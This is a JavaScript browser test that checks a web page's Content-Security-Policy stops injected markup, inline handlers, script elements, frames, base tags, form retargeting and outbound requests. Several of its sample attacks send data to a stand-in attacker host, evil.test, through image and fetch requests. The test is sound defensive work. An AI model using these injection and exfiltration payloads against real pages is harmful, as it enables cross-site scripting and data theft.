// The page shows what people write as text. If markup ever becomes part of the
// page by mistake, the Content-Security-Policy limits what it can do.

import assert from "node:assert/strict";
import { patience, within } from "./lib/patience.js";
import { scenario } from "./lib/scenario.js";

// Each directive, and something that it has to stop. The page itself never does this.
const attempts = {
  "script-src-attr": () => { document.body.innerHTML = "<img src=icon.svg onload='stopped(null)'>"; },
  "script-src-elem": () => document.body.append(Object.assign(document.createElement("script"), { text: "stopped(null)" })),
  "style-src-attr": () => { document.body.innerHTML = "<p style='position: fixed'>"; },
  "img-src": () => { new Image().src = "https://evil.test/?what-ada-knows"; },
  "frame-src": () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.test/" })),
  "base-uri": () => document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.test/" })),
  "form-action": () => {
    document.forms.compose.action = "https://evil.test/";
    try {
      HTMLFormElement.prototype.submit.call(document.forms.compose);
    } catch {
      // Firefox throws when it sends nothing
    }
  },
  "connect-src": () => { fetch("https://evil.test/?what-ada-knows").catch(() => {}); },
};

scenario("the policy stops foreign code and foreign addresses", async ({ openRoom }) => {
  const room = await openRoom();
  const ada = await room.newcomer();
  ada.expects("Content Security Policy", "Content-Security-Policy"); // as the browsers spell it
  ada.expects("https://evil.test/"); // browsers report a request before the policy stops it
  const stoppedBy = {};
  for (const [directive, attempt] of Object.entries(attempts)) {
    await ada.opens();
    stoppedBy[directive] = await within(patience, "nothing", () => ada.page.evaluate(`new Promise((stopped) => {
      window.stopped = stopped;
      document.addEventListener("securitypolicyviolation", (event) => stopped(event.effectiveDirective), { once: true });
      (${attempt})();
    })`)).catch((error) => error.message);
  }
  assert.deepEqual(stoppedBy, Object.fromEntries(Object.keys(attempts).map((directive) => [directive, directive])));
});
